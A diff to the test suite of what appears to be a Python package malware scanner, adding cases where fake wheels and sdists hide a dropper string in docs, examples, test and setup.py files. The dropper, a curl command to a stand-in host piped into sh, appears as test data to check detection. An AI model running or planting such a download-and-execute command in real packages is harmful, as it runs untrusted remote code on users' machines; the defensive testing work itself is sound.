@@ -208,9 +208,20 @@ def test_random_bytes_never_crash(tmp_path: Path, blob: bytes, suffix: str) -> N
     assert isinstance(scan.files_scanned, int) and scan.bytes_scanned <= len(blob) * 2000 + 10_000
 
 
-def test_code_under_tests_is_weighed_down_and_not_parsed(tmp_path: Path) -> None:
+def test_code_under_tests_is_not_parsed_unless_the_package_imports_it(tmp_path: Path) -> None:
     dropper = "import os\nos.system('curl https://example.invalid/x | sh')\n"
     scan = scan_archive(make_wheel(tmp_path, {"demo/__init__.py": "", "demo/tests/test_x.py": dropper}))
     assert scan.files_scanned == 1 and not scan.findings
+    hidden = {"demo/__init__.py": "from .docs import conf\n", "demo/docs/__init__.py": "", "demo/docs/conf.py": dropper,
+              "demo/examples/run.py": dropper}
+    scan = scan_archive(make_wheel(tmp_path / "hidden", hidden))
+    assert scan.files_scanned == 3  # __init__, docs/__init__ and docs/conf: examples/run.py is still skipped
+    assert severity(scan, "shell-dropper-command") >= Severity.HIGH
+    assert {e.location for f in scan.findings for e in f.evidence} == {"demo/docs/conf.py"}
+    src_layout = {"setup.py": "from setuptools import setup\nsetup()\n", "src/demo/__init__.py": "import demo.testing.helpers\n",
+                  "src/demo/testing/__init__.py": "", "src/demo/testing/helpers.py": dropper, "docs/helpers.py": dropper}
+    scan = scan_archive(make_sdist(tmp_path / "src", src_layout))
+    locations = {e.location.split("/", 1)[1] for f in scan.findings for e in f.evidence}
+    assert locations == {"src/demo/testing/helpers.py"}  # `import demo.testing.helpers` does not run docs/helpers.py
     setup = scan_archive(make_sdist(tmp_path / "s", {"setup.py": dropper, "tests/helper.py": dropper}))
     assert severity(setup, "shell-dropper-command") is Severity.CRITICAL  # setup.py itself is never skipped
